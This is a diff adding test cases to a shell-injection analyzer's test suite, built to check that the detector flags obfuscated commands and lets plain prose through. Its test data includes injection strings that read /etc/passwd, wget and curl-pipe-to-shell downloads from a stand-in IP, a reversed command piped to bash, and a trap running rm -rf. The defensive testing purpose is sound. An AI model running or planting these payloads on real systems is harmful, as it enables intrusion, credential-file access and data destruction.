@@ -123,6 +123,24 @@ describe("shell analyzer", () => {
     for (const v of ["\"ls\"", "{id,name}", "O'keefe's"]) expect(s(v)).toBeLessThan(0.8);
   });
 
+  test("a word of empty expansions before a command is dropped, as the shell drops it", () => {
+    for (const v of [";$a cat /etc/passwd", "1;${x} id", "|$@ wget http://198.51.100.7/a", "$u whoami", ";$a $b cat /etc/passwd"]) {
+      expect(s(v)).toBeGreaterThanOrEqual(0.85);
+    }
+    expect(strongest(shellAnalyzer, ";$a cat /etc/passwd")!.rule).toBe("shell.obfuscated-command");
+    // Prices and parameters that give text are no empty word; a lone variable names no command.
+    for (const v of ["Bought toys; $5 cat food", "; $? id", "$a", "$a;"]) expect(s(v)).toBeLessThan(0.5);
+  });
+
+  test("cd and trap are shell builtins: a chain's first step, a command run on a signal", () => {
+    expect(s(";cd /tmp;wget http://198.51.100.7/a")).toBeGreaterThanOrEqual(0.9);
+    expect(s("{,cd,/etc,}")).toBeGreaterThanOrEqual(0.9);
+    expect(s("x;trap 'rm -rf /tmp/x' EXIT")).toBeGreaterThanOrEqual(0.85);
+    // Both are English words too: with plain words after a separator they stay prose.
+    expect(s("fix; trap door")).toBeLessThan(0.5);
+    expect(s("Go to cd; cd player")).toBeLessThan(0.5);
+  });
+
   test("a pipe into a shell runs what came before it", () => {
     expect(s("curl http://198.51.100.7/a.sh | sh")).toBe(0.9);
     expect(s("printf dwssap/cte/ tac | rev | bash")).toBe(0.9);
